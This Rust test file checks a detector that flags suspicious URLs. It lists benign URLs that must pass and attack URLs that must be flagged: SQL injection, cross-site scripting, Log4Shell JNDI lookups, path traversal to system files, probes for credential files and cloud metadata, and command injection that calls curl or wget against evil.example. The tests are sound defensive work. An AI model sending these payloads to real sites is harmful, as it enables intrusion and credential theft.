//! URLs that pass and URLs that do not.

use super::*;

fn check(url: &str, expected: Option<&str>) {
    let url = PageUrl::parse(url).expect("a URL");
    assert_eq!(suspicious(&url), expected, "{url}");
}

#[test]
fn ordinary_pages_pass() {
    for url in [
        "https://example.org/",
        "https://example.org/?id=1&page=2&sort=-date",
        "https://example.org/a/../b/./c",
        "https://example.org/search?q=rock+and+roll+or+jazz",
        "https://example.org/shop?brand=O%27Reilly&or=1",
        "https://example.org/shop?name=Levi%27s+and+Lee=Lee",
        "https://example.org/?return=../../index.php",
        "https://example.org/?file=..%2Fimages%2Fa.png",
        "https://example.org/a..b/c...d/....",
        "https://example.org/proxy/https%3A%2F%2Fother.example%2F..%2Fx",
        "https://example.org/?a=1;b=2;cat=dogs;sh=1",
        "https://example.org/?title=dogs;cat+food|curl+up",
        "https://example.org/?q=a+%3C+b+and+c+%3E+d",
        "https://example.org/?math=1%3C2&on=yes&online=true",
        "https://example.org/?u=javascript:void(0)",
        "https://example.org/?token=%00%FF%27%22%3D",
        "https://example.org/?price=%24%7Bprice%7D",
        "https://example.org/100%25%20sure/%zz",
        "https://example.org/wp-login.php",
        "https://example.org/wp-login.php?redirect_to=https%3A%2F%2Fexample.org%2Fwp-admin%2F&reauth=1",
        "https://example.org/login?password=",
        "https://example.org/article?pass=season",
        "https://example.org/.well-known/security.txt",
        "https://example.org/environment/.environment",
    ] {
        check(url, None);
    }
}

#[test]
fn pages_about_attacks_pass() {
    for url in [
        "https://en.wikipedia.org/wiki/SQL_injection",
        "https://en.wikipedia.org/wiki/Union_(SQL)",
        "https://en.wikipedia.org/wiki/Select_(SQL)",
        "https://en.wikipedia.org/wiki/Delete_from_(SQL);_Insert_into",
        "https://en.wikipedia.org/w/index.php?title=SQL_injection&action=history",
        "https://en.wikipedia.org/wiki/Or_(film)",
        "https://en.wikipedia.org/wiki/%27Or%27",
        "https://en.wikipedia.org/wiki/.htaccess",
        "https://en.wikipedia.org/wiki/.env",
        "https://en.wikipedia.org/wiki//etc/passwd",
        "https://en.wikipedia.org/wiki/Directory_traversal_attack",
        "https://en.wikipedia.org/wiki/Cross-site_scripting",
        "https://en.wikipedia.org/wiki/Log4Shell",
        "https://en.wikipedia.org/wiki/Rm_(Unix)",
        "https://stackoverflow.com/questions/tagged/.env",
        "https://stackoverflow.com/search?q=sql+union+all+select",
        "https://stackoverflow.com/search?q=select+1+union+select+2",
        "https://stackoverflow.com/search?q=union+select+null+from+two+tables",
        "https://stackoverflow.com/search?q=where+1%3D1+or+1%3D1",
        "https://stackoverflow.com/search?q=what+is+1+or+1%3D1",
        "https://stackoverflow.com/search?q=%3Cscript%3E+tag",
        "https://stackoverflow.com/search?q=%2Fetc%2Fpasswd",
        "https://stackoverflow.com/search?q=sleep()+and+wait()",
        "https://stackoverflow.com/questions/1/what-does-or-1-1-mean-in-sql",
        "https://dev.mysql.com/doc/refman/8.0/en/information-schema-tables-table.html",
        "https://www.postgresql.org/docs/current/sql-insert.html",
        "https://www.w3schools.com/sql/sql_union.asp",
        "https://example.org/docs?topic=insert+into&lang=sql",
        "https://example.org/docs?topic=union+select",
        "https://example.org/docs?topic=select+*+from+information_schema.tables",
        "https://github.com/someone/project/blob/main/.env",
        "https://github.com/someone/project/blob/main/.env.example",
        "https://raw.githubusercontent.com/someone/project/main/.npmrc",
        "https://git.example.org/project.git/config",
        "https://man7.org/linux/man-pages/man5/passwd.5.html",
        "https://xkcd.com/327/",
    ] {
        check(url, None);
    }
}

#[test]
fn injections_of_sql_do_not() {
    for query in [
        "id=1%27%20or%20%271%27=%271",
        "id=1'+or+'1'='1",
        "id=1'or'1'='1",
        "id=1 or 1=1",
        "id=-1) or (1=1",
        "id=1/**/or/**/1=1",
        "user=admin'--",
        "user=admin'+--+-",
        "user=admin%2527%2520or%25201%253D1%23",
        "user=\" or \"\"=\"",
        "user=' or ''='",
        "user=x' and 'a' like 'a",
        "q=x') or ('a'='a",
        "q=x' union select name, password from users--",
        "id=1 union select 1,2,3",
        "id=-1 UNION+ALL+SELECT+null,null",
        "id=1+uNiOn+sElEcT+@@version",
        "id=1%0Aunion%0Aselect%0Apassword%0Afrom%0Ausers",
        "id=1;drop table users",
        "name=Robert');DROP%20TABLE%20students;--",
        "id=1; exec xp_cmdshell('dir')",
        "id=1 and sleep(5)",
        "id=1' and (select pg_sleep(5))--",
        "id=1' waitfor delay '0:0:5'--",
        "id=1 and benchmark(1000000,md5(1))",
        "id=1 or 1=(select count(*) from information_schema.tables)",
        "1' or '1'='1",
    ] {
        check(&format!("https://example.org/?a=b&{query}"), Some("it carries a piece of SQL"));
    }
    check("https://example.org/item/1'%20or%20'1'='1", Some("it carries a piece of SQL"));
}

#[test]
fn scripts_and_lookups_do_not() {
    for query in [
        "q=<script>alert(1)</script>",
        "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "q=<SCRIPT SRC=//evil.example/x.js>",
        "q=\"><img src=x onerror=alert(1)>",
        "q=<svg/onload=alert(1)>",
        "q=<body%0aonload='alert(1)'",
        "next=javascript:alert(document.domain)",
        "<script>alert(1)</script>=1",
    ] {
        check(&format!("https://example.org/?{query}"), Some(SCRIPT));
    }
    check("https://example.org/a/%3Cscript%3Ealert(1)%3C/script%3E", Some(SCRIPT));
    for url in [
        "https://example.org/?x=${jndi:ldap://evil.example/a}",
        "https://example.org/$%7Bjndi:dns://evil.example%7D",
        "https://example.org/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe%7D",
        "https://example.org/?%24%7Bjndi%3Armi%3A%2F%2Fe%7D=1",
        "https://example.org/?class.module.classLoader.resources=x",
    ] {
        check(url, Some(LOOKUP));
    }
}

#[test]
fn ways_out_of_the_folder_do_not() {
    for url in [
        "https://example.org/?page=../../../etc/passwd",
        "https://example.org/?page=../etc/passwd",
        "https://example.org/?page=..%2F.env",
        "https://example.org/?page=..%5C..%5C..%5Cwindows%5Cwin.ini",
        "https://example.org/?page=....//....//....//etc/passwd",
        "https://example.org/?page=%252e%252e%252f%252e%252e%252f%252e%252e%252fx",
        "https://example.org/static/..%2f..%2fx",
        "https://example.org/static/..%252f..%252fx",
        "https://example.org/a/..%5c..%5cwindows/win.ini",
        "https://example.org/a/..;/..;/manager",
    ] {
        check(url, Some(TRAVERSAL));
    }
    for url in [
        "https://example.org/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
        "https://example.org/etc/passwd",
        "https://example.org/?file=/etc/passwd",
        "https://example.org/?file=file:///etc/hosts",
        "https://example.org/?page=php://filter/convert.base64-encode/resource=index",
        "https://example.org/?file=C:%5CWindows%5Cwin.ini",
    ] {
        check(url, Some(SYSTEM_FILE));
    }
}

#[test]
fn places_of_credentials_do_not() {
    for path in [
        "/.env",
        "/api/.env",
        "/.env.production",
        "/.ENV",
        "/%2eenv",
        "/.git/config",
        "/blog/.git/HEAD",
        "/.svn/wc.db",
        "/.aws/credentials",
        "/.ssh/id_rsa",
        "/.htpasswd",
        "/wp-config.php",
        "/wp-config.php.bak",
        "/wp-config.php~",
        "/WEB-INF/web.xml",
        "/actuator/heapdump",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
        "/fetch?url=http%3A%2F%2Fmetadata.google.internal%2Fx",
    ] {
        check(&format!("https://example.org{path}"), Some(CREDENTIALS));
    }
    for path in ["/wp-login.php?log=admin&pwd=123456", "/blog/wp-login.php?PWD=x", "/admin/login?user=a&password=b"] {
        check(&format!("https://example.org{path}"), Some(PASSWORD));
    }
}

#[test]
fn commands_do_not() {
    for query in [
        "ip=1.1.1.1;cat /etc/hosts",
        "ip=1.1.1.1%7Cwget+http://evil.example/x",
        "ip=1.1.1.1%26%26curl+-s+evil.example",
        "ip=$(whoami)",
        "ip=%60id%60",
        "cmd=;/bin/sh",
    ] {
        check(&format!("https://example.org/ping?{query}"), Some(COMMAND));
    }
}
